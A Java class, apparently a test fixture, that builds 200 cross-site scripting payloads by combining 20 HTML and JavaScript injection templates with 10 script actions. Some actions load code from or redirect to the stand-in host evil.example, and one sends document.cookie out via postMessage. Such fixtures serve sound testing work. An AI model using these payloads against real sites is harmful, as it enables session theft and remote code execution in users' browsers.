package dev.clearspan.console.hostile;

import java.util.List;
import java.util.stream.Stream;

/** Texts that a careless page would run: every way in with every deed. */
final class ScriptPayloads {
  private static final List<String> WAYS_IN =
      List.of(
          "<script>%s</script>",
          "</script><script>%s</script>",
          "\"><script>%s</script>",
          "<!--><script>%s</script>-->",
          "<img src=x onerror=%s>",
          "'><img src=x onerror=%s>",
          "<svg onload=%s>",
          "<svg><script>%s</script></svg>",
          "<math><mtext><script>%s</script></mtext></math>",
          "<iframe srcdoc=\"<script>%s</script>\"></iframe>",
          "<a href=\"javascript:%s\">look</a>",
          "<body onload=%s>",
          "<details open ontoggle=%s>x</details>",
          "<input autofocus onfocus=%s>",
          "\" onmouseover=\"%s",
          "<style>@import url(\"javascript:%s\");</style>",
          "javascript:%s",
          "data:text/html,<script>%s</script>",
          "{{constructor.constructor(\"%s\")()}}",
          "${%s}");

  private static final List<String> DEEDS =
      List.of(
          "window.owned=1",
          "alert(1)",
          "document.title='owned'",
          "fetch('/api/v1/users')",
          "top.location='//evil.example'",
          "import('//evil.example/x.js')",
          "eval(atob('d2luZG93Lm93bmVkPTE='))",
          "Function('window.owned=1')()",
          "setTimeout('window.owned=1')",
          "parent.postMessage(document.cookie,'*')");

  private ScriptPayloads() {}

  /** Two hundred of them. */
  static Stream<String> all() {
    return WAYS_IN.stream().flatMap(way -> DEEDS.stream().map(way::formatted));
  }
}
